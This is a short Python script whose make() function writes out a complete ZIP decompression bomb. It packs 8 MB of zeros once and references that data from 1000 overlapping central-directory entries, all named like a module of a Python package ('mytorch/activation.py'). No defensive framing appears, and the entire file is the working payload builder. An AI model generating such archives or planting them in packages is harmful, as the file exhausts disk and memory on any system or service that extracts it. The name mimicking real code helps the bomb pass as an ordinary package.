"""A zip of a thousand entries that all are the same packed megabytes.

Into: an archive of its own
"""

import struct
import zlib


def make():
    size, name = 8_000_000, b"mytorch/activation.py"
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packed.compress(bytes(size)) + packed.flush()
    fields = (20, 0, 8, 0, 0, zlib.crc32(bytes(size)), len(kernel), size, len(name), 0)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + name + kernel
    entry = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0) + name
    ending = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1000, 1000, 1000 * len(entry), len(local), 0)
    return local + entry * 1000 + ending
